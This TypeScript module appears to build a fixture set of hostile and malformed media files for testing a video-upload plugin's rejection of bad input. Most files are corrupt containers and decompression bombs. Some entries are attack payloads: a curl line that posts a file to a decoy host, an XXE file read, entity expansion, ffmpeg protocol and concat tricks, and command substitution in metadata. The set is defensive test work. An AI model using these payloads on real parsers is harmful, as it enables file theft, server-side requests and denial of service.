import { deflateSync, gzipSync } from 'node:zlib'
import type { FailureCode } from '@lectern/plugin-video/contract'
import { box, boxesIn, edit, large, lying, put, u32 } from './boxes.ts'
import { element, ids, lyingElement, matroskaHeader, number } from './ebml.ts'

/** What hostile files are made from, and what they try to reach. */
export interface Material {
  /** One second of H.264 and AAC, its index behind the data; the same with the index in front. */
  readonly mp4: Buffer
  readonly fastMp4: Buffer
  readonly mkv: Buffer
  /** One second of Motion JPEG. */
  readonly mjpeg: Buffer
  /** Of decoders that are not let in. */
  readonly rare: Readonly<Record<string, Buffer>>
  /** Address of a server that must never be asked. */
  readonly decoy: string
  /** Path of a file that must never be read. */
  readonly canary: string
}

export interface HostileFile {
  readonly name: string
  readonly make: (material: Material) => Buffer | string
  /** Where only one answer is right. */
  readonly code?: FailureCode
}

const most = 0xffffffff

/** Always the same bytes for a seed (an LCG of Numerical Recipes). */
const noise = (seed: number, length: number): Buffer => {
  let state = seed
  return Buffer.from(
    Array.from({ length }, () => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0
      return state >>> 24
    }),
  )
}

const playlist = (...lines: string[]) =>
  ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:6', ...lines, '#EXT-X-ENDLIST', ''].join('\n')

const texts: HostileFile[] = (
  [
    ['a playlist of a file', ({ canary }) => playlist('#EXTINF:6,', `file://${canary}`)],
    ['a playlist of an address', ({ decoy }) => playlist('#EXTINF:6,', `${decoy}segment.ts`)],
    [
      'a playlist with a key',
      ({ decoy }) => playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${decoy}key"`, '#EXTINF:6,', 'a.ts'),
    ],
    [
      'a playlist with an init segment',
      ({ canary }) => playlist(`#EXT-X-MAP:URI="${canary}"`, '#EXTINF:6,', 'a.m4s'),
    ],
    [
      'a playlist of playlists',
      ({ decoy }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${decoy}index.m3u8\n`,
    ],
    ['a playlist of data', () => playlist('#EXTINF:6,', 'data:video/mp2t;base64,R0AAEA==')],
    [
      'a playlist of parts of a file',
      ({ canary }) => playlist('#EXTINF:6,', `subfile,,start,0,end,9,,:${canary}`),
    ],
    ['a playlist of files in a row', ({ canary }) => playlist('#EXTINF:6,', `concat:${canary}|${canary}`)],
    ['a playlist of a secret file', ({ canary }) => playlist('#EXTINF:6,', `crypto+file:${canary}`)],
    ['a concat script of a file', ({ canary }) => `ffconcat version 1.0\nfile '${canary}'\n`],
    [
      'a concat script of an address',
      ({ decoy }) => `ffconcat version 1.0\nfile '${decoy}a.mp4'\nduration 9\n`,
    ],
    [
      'a concat script with options',
      ({ canary }) =>
        `ffconcat version 1.0\nfile '${canary}'\noption safe 0\noption protocol_whitelist ALL\n`,
    ],
    [
      'a DASH manifest',
      ({ decoy }) =>
        `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1H"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${decoy}a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'a smooth streaming manifest',
      ({ decoy }) =>
        `<SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="${decoy}"/></SmoothStreamingMedia>`,
    ],
    [
      'a session description',
      () =>
        'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
    ],
    ['a redirection', ({ decoy }) => `RTSPtext\r\n${decoy.replace('http', 'rtsp')}\r\n`],
    [
      'a picture of vectors',
      ({ decoy }) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${decoy}a.png"/></svg>`,
    ],
    [
      'an entity of a file',
      ({ canary }) => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://${canary}">]><a>&b;</a>`,
    ],
    [
      'entities in entities',
      () =>
        `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'.replace(/./g, letter => `<!ENTITY ${letter} "${`&${String.fromCharCode(letter.charCodeAt(0) - 1)};`.repeat(10)}">`)}]><a>&j;</a>`,
    ],
    ['subtitles (SRT)', () => '1\n00:00:01,000 --> 00:00:02,000\nHello\n\n'.repeat(50)],
    ['subtitles (WebVTT)', () => 'WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nHello\n'],
    [
      'subtitles (ASS)',
      () =>
        '[Script Info]\nScriptType: v4.00+\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,Hello\n',
    ],
    ['a page', ({ decoy }) => `<!doctype html><html><script src="${decoy}a.js"></script></html>`],
    ['a shell script', ({ decoy, canary }) => `#!/bin/sh\ncurl ${decoy} -d @${canary}\n`],
    ['a frame server script', ({ canary }) => `FFmpegSource2("${canary}")\nimport vapoursynth\n`],
    [
      'metadata of FFmpeg',
      ({ canary }) => `;FFMETADATA1\ntitle=$(cat ${canary})\n[CHAPTER]\nSTART=0\nEND=9\n`,
    ],
    ['a filter graph', ({ canary }) => `movie=${canary}[out0];amovie=${canary}[out1]`],
    ['a protocol', ({ canary }) => `concat:${canary}|file:${canary}|pipe:0`],
    ['data as an address', ({ mp4 }) => `data:video/mp4;base64,${mp4.toString('base64')}`],
    ['a list of songs', ({ decoy }) => `[playlist]\nFile1=${decoy}a.mp3\nNumberOfEntries=1\n`],
  ] as const satisfies readonly (readonly [string, HostileFile['make']])[]
).map(([name, make]) => ({ name, make, code: 'not-a-video' }))

const others: HostileFile[] = [
  { name: 'nothing', make: () => '', code: 'empty-file' },
  { name: 'one byte', make: () => 'x', code: 'not-a-video' },
  { name: 'a million zeros', make: () => Buffer.alloc(1_000_000), code: 'not-a-video' },
  { name: 'noise', make: () => noise(1, 100_000), code: 'not-a-video' },
  { name: 'other noise', make: () => noise(2, 100_000), code: 'not-a-video' },
  { name: 'a ZIP archive', make: () => Buffer.concat([Buffer.from('PK\x03\x04'), noise(3, 5000)]) },
  { name: 'a gzip bomb', make: () => gzipSync(Buffer.alloc(5_000_000)) },
  {
    name: 'a PNG picture of 65535x65535',
    make: () =>
      Buffer.concat([
        Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
        u32(13),
        Buffer.from('IHDR'),
        u32(65535, 65535),
        noise(4, 500),
      ]),
  },
  { name: 'a JPEG picture', make: ({ mjpeg }) => mjpeg.subarray(mjpeg.indexOf('ffd8ff', 0, 'hex')) },
  { name: 'a GIF picture', make: () => Buffer.concat([Buffer.from('GIF89a'), u32(most), noise(5, 500)]) },
  { name: 'a PDF', make: () => '%PDF-1.7\n1 0 obj<</OpenAction<</S/URI>>>>endobj\n%%EOF' },
  { name: 'a Windows program', make: () => Buffer.concat([Buffer.from('MZ'), noise(6, 5000)]) },
  {
    name: 'a Linux program',
    make: () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), noise(7, 5000)]),
  },
  {
    name: 'an ID3 tag of 256 MB',
    make: () => Buffer.concat([Buffer.from('ID3\x04\0\0\x7f\x7f\x7f\x7f', 'latin1'), noise(8, 9000)]),
  },
  {
    name: 'a WAV that lies about its size',
    make: () =>
      Buffer.concat([Buffer.from('RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\x7f', 'latin1'), noise(9, 4000)]),
  },
  {
    name: 'a FLAC that lies',
    make: () => Buffer.concat([Buffer.from('fLaC\x84\xff\xff\xff', 'latin1'), noise(10, 4000)]),
  },
  {
    name: 'one Ogg page again and again',
    make: () =>
      Buffer.concat(
        Array(2000).fill(
          Buffer.concat([
            Buffer.from('OggS\0\x02', 'latin1'),
            Buffer.alloc(8),
            u32(1, 0, 0),
            Buffer.from([1, 30]),
            Buffer.from('\x01vorbis'),
            Buffer.alloc(23),
          ]),
        ),
      ),
  },
  {
    name: 'an AVI that lies',
    make: () =>
      Buffer.concat([
        Buffer.from('RIFF\xff\xff\xff\x7fAVI LIST\xff\xff\xff\x7fhdrlavih', 'latin1'),
        noise(11, 4000),
      ]),
  },
  {
    name: 'a Flash video',
    make: () => Buffer.concat([Buffer.from('FLV\x01\x05\0\0\0\x09\0\0\0\0', 'latin1'), noise(12, 4000)]),
  },
  {
    name: 'packets of MPEG-TS with noise',
    make: () =>
      Buffer.concat(
        Array.from({ length: 400 }, (_, at) => Buffer.concat([Buffer.from([0x47]), noise(at, 187)])),
      ),
  },
  {
    name: 'packets of MPEG-TS with nothing',
    make: () =>
      Buffer.concat(
        Array(400).fill(Buffer.concat([Buffer.from([0x47, 0x1f, 0xff, 0x10]), Buffer.alloc(184, 0xff)])),
      ),
  },
  ...['magicyuv', 'ffv1', 'qtrle', 'png'].map(
    (codec): HostileFile => ({
      name: `a picture for ${codec}`,
      make: ({ rare }) => rare[codec] ?? '',
      code: 'unsupported-format',
    }),
  ),
]

/** Without the `mdat` that holds what plays. */
const indexOnly = (mp4: Buffer) =>
  Buffer.concat(
    boxesIn(mp4).flatMap(each => (each.type === 'mdat' ? [] : [mp4.subarray(each.start, each.end)])),
  )

const table = 'moov.trak.mdia.minf.stbl'
const manyEntries =
  (type: string, at = 4) =>
  ({ mp4 }: Material) =>
    edit(mp4, `${table}.${type}`, content => put(content, at, most))
const nested = (deep: number, type: string) => {
  // Built from inside, each size known: 10,000 calls would be too deep.
  const heads = Array.from({ length: deep }, (_, at) =>
    Buffer.concat([u32(8 * (deep - at)), Buffer.from(type)]),
  )
  return Buffer.concat(heads)
}
const ftyp = box('ftyp', Buffer.from('isom\0\0\x02\0isomiso2avc1mp41', 'latin1'))
/** Copies of the tracks, each with a number of its own. */
const manyTracks = (mp4: Buffer, count: number) =>
  edit(mp4, 'moov', content => {
    const tracks = boxesIn(content).filter(each => each.type === 'trak')
    const copies = Array.from({ length: count }, (_, at) => {
      const one = tracks[at % tracks.length]
      return edit(content.subarray(one?.start, one?.end), 'trak.tkhd', head => put(head, 12, at + 10))
    })
    return Buffer.concat([content, ...copies])
  })

const isoFiles: HostileFile[] = [
  {
    name: 'data at another address',
    make: ({ mp4, decoy }) =>
      indexOnly(
        edit(mp4, 'moov.trak.mdia.minf.dinf.dref', () =>
          Buffer.concat([u32(0, 1), box('url ', u32(0), Buffer.from(`${decoy}data.mp4\0`))]),
        ),
      ),
  },
  {
    name: 'data in another file',
    make: ({ mp4, canary }) =>
      edit(mp4, 'moov.trak.mdia.minf.dinf.dref', () => {
        const path = Buffer.from(canary.padEnd(canary.length + (canary.length % 2), '\0'))
        // Names of volume and file, then records by type: 2 is the whole path.
        const alias = Buffer.concat([Buffer.alloc(150), Buffer.from([0, 2, 0, path.length]), path])
        return Buffer.concat([u32(0, 1), box('alis', u32(0), alias, Buffer.from([0xff, 0xff, 0, 0]))])
      }),
  },
  {
    name: 'a reference to another film',
    make: ({ decoy }) =>
      Buffer.concat([
        ftyp,
        box(
          'moov',
          box(
            'rmra',
            box(
              'rmda',
              box('rdrf', u32(0), Buffer.from('url '), u32(decoy.length + 1), Buffer.from(`${decoy}\0`)),
            ),
          ),
        ),
      ]),
  },
  { name: 'an index cut short', make: ({ fastMp4 }) => fastMp4.subarray(0, 600), code: 'truncated' },
  { name: 'a type cut short', make: ({ mp4 }) => mp4.subarray(0, 12) },
  { name: 'an index without data', make: ({ fastMp4 }) => indexOnly(fastMp4) },
  { name: 'data without an index', make: ({ mp4 }) => edit(mp4, 'moov', () => []), code: 'truncated' },
  {
    name: 'a third of a file',
    make: ({ fastMp4 }) => fastMp4.subarray(0, Math.floor(fastMp4.length / 3)),
  },
  {
    name: 'a box of no size',
    make: ({ mp4 }) => Buffer.concat([ftyp, lying('moov', 0), edit(mp4, 'moov', () => [])]),
  },
  {
    name: 'a box smaller than its head',
    make: () => Buffer.concat([ftyp, lying('moov', 7, Buffer.alloc(100))]),
  },
  { name: 'a box of 4 GB', make: () => Buffer.concat([ftyp, lying('moov', most, Buffer.alloc(100))]) },
  {
    name: 'a box of a negative size',
    make: () => Buffer.concat([ftyp, large('moov', most, 0xfffffff0, Buffer.alloc(100))]),
  },
  {
    name: 'a box of 9 exabytes',
    make: () => Buffer.concat([ftyp, large('mdat', 0x7fffffff, most, Buffer.alloc(100))]),
  },
  { name: '10,000 boxes in one another', make: () => Buffer.concat([ftyp, nested(10_000, 'moov')]) },
  {
    name: '10,000 tracks in one another',
    make: () => Buffer.concat([ftyp, box('moov', nested(10_000, 'trak'))]),
  },
  { name: '4 billion sizes of samples', make: manyEntries('stsz', 8) },
  { name: '4 billion chunks', make: manyEntries('stco') },
  { name: '4 billion times', make: manyEntries('stts') },
  { name: '4 billion descriptions', make: manyEntries('stsd') },
  { name: '4 billion runs of chunks', make: manyEntries('stsc') },
  {
    name: 'samples beyond the end',
    make: ({ mp4 }) =>
      edit(mp4, `${table}.stco`, content => {
        for (let at = 8; at + 4 <= content.length; at += 4) put(content, at, 0xfffffff0)
        return content
      }),
  },
  {
    name: 'a description of 65535x65535 and no data',
    make: ({ fastMp4 }) => indexOnly(edit(fastMp4, `${table}.stsd`, content => put(content, 40, most))),
  },
  {
    name: 'frames of 65500x65500',
    make: ({ mjpeg }) => {
      const changed = Buffer.from(mjpeg)
      // Start of frame: length, precision, height, width.
      for (let at = changed.indexOf('ffc0', 0, 'hex'); at !== -1; at = changed.indexOf('ffc0', at + 2, 'hex'))
        put(changed, at + 5, (65500 << 16) | 65500)
      return changed
    },
  },
  {
    name: 'a duration of 136 years',
    make: ({ mp4 }) =>
      edit(
        edit(mp4, 'moov.mvhd', content => put(content, 12, 1, most)),
        'moov.trak.mdia.mdhd',
        content => put(content, 12, 1, most),
      ),
    code: 'too-long',
  },
  {
    name: 'frames of years',
    make: ({ mp4 }) =>
      edit(mp4, `${table}.stts`, content => {
        for (let at = 12; at + 4 <= content.length; at += 8) put(content, at, 0x7fffffff)
        return content
      }),
  },
  {
    name: 'a clock that stands still',
    make: ({ mp4 }) => edit(mp4, 'moov.trak.mdia.mdhd', content => put(content, 12, 0)),
  },
  {
    name: '30,000 frames a second',
    make: ({ mp4 }) =>
      edit(mp4, 'moov.trak.mdia.mdhd', content => put(content, 12, content.readUInt32BE(12) * 1000)),
  },
  { name: '1000 tracks', make: ({ mp4 }) => manyTracks(mp4, 1000), code: 'too-demanding' },
  { name: '40 tracks', make: ({ mp4 }) => manyTracks(mp4, 40), code: 'too-demanding' },
  {
    name: 'a compressed index that swells',
    make: () => {
      const swollen = deflateSync(Buffer.alloc(20_000_000))
      return Buffer.concat([
        ftyp,
        box('moov', box('cmov', box('dcom', Buffer.from('zlib')), box('cmvd', u32(20_000_000), swollen))),
      ])
    },
  },
  {
    name: 'a compressed index that says 4 GB',
    make: () =>
      Buffer.concat([
        ftyp,
        box(
          'moov',
          box(
            'cmov',
            box('dcom', Buffer.from('zlib')),
            box('cmvd', u32(most), deflateSync(Buffer.alloc(1000))),
          ),
        ),
      ]),
  },
  {
    name: 'data of zeros',
    make: ({ mp4 }) => edit(mp4, 'mdat', content => Buffer.alloc(content.length)),
  },
  { name: 'data of noise', make: ({ mp4 }) => edit(mp4, 'mdat', content => noise(13, content.length)) },
  {
    name: 'fragments of 4 billion samples',
    make: ({ mp4 }) =>
      Buffer.concat([
        indexOnly(mp4),
        box(
          'moof',
          box('mfhd', u32(0, 1)),
          box('traf', box('tfhd', u32(0x20000, 1)), box('trun', u32(0x100, most, 1))),
        ),
        box('mdat', Buffer.alloc(100)),
      ]),
  },
]

/** The content of the one segment. */
const segmentOf = (mkv: Buffer) => mkv.subarray(mkv.indexOf(ids.segment, 0, 'hex') + 12)
const anAttachment = (at: number, bytes: number) =>
  element(
    ids.attachedFile,
    element(ids.fileName, Buffer.from(`font-${at}.ttf`)),
    element(ids.fileType, Buffer.from('application/x-truetype-font')),
    element(ids.fileId, number(at + 1)),
    element(ids.fileData, Buffer.alloc(bytes)),
  )

const matroskaFiles: HostileFile[] = [
  { name: 'a head of Matroska alone', make: () => matroskaHeader },
  {
    name: 'a segment of 72 petabytes',
    make: () => Buffer.concat([matroskaHeader, lyingElement(ids.segment, (1n << 56n) - 2n)]),
  },
  { name: 'a head of 72 petabytes', make: () => lyingElement(ids.header, (1n << 56n) - 2n, noise(14, 500)) },
  {
    name: 'noise in a segment',
    make: () => Buffer.concat([matroskaHeader, element(ids.segment, noise(15, 50_000))]),
  },
  {
    name: 'an index that points at itself',
    make: () =>
      Buffer.concat([
        matroskaHeader,
        element(
          ids.segment,
          ...Array(500).fill(
            element(
              ids.seekHead,
              element(
                ids.seek,
                element(ids.seekId, Buffer.from(ids.seekHead, 'hex')),
                element(ids.seekPosition, number(0)),
              ),
            ),
          ),
        ),
      ]),
  },
  {
    name: '5,000 elements in one another',
    make: () => {
      let inner = element(ids.void, Buffer.alloc(10))
      for (let deep = 0; deep < 5000; deep++) inner = element(ids.cluster, inner)
      return Buffer.concat([matroskaHeader, element(ids.segment, inner)])
    },
  },
  {
    name: '200 attached files',
    make: ({ mkv }) =>
      Buffer.concat([
        matroskaHeader,
        element(
          ids.segment,
          element(ids.attachments, ...Array.from({ length: 200 }, (_, at) => anAttachment(at, 1000))),
          segmentOf(mkv),
        ),
      ]),
    code: 'too-demanding',
  },
  {
    name: 'an attached file of 500 MB that is not there',
    make: () =>
      Buffer.concat([
        matroskaHeader,
        element(
          ids.segment,
          lyingElement(
            ids.attachments,
            600_000_000n,
            lyingElement(
              ids.attachedFile,
              500_000_100n,
              lyingElement(ids.fileData, 500_000_000n, Buffer.alloc(5000)),
            ),
          ),
        ),
      ]),
  },
  {
    name: 'tracks without a cluster',
    make: ({ mkv }) => mkv.subarray(0, mkv.indexOf(ids.cluster, 0, 'hex')),
  },
  { name: 'a third of a Matroska file', make: ({ mkv }) => mkv.subarray(0, Math.floor(mkv.length / 3)) },
]

/** All made by code, the same bytes on every run but for what the encoder of the machine makes of the good clips. */
export const hostileFiles: readonly HostileFile[] = [...texts, ...others, ...isoFiles, ...matroskaFiles]
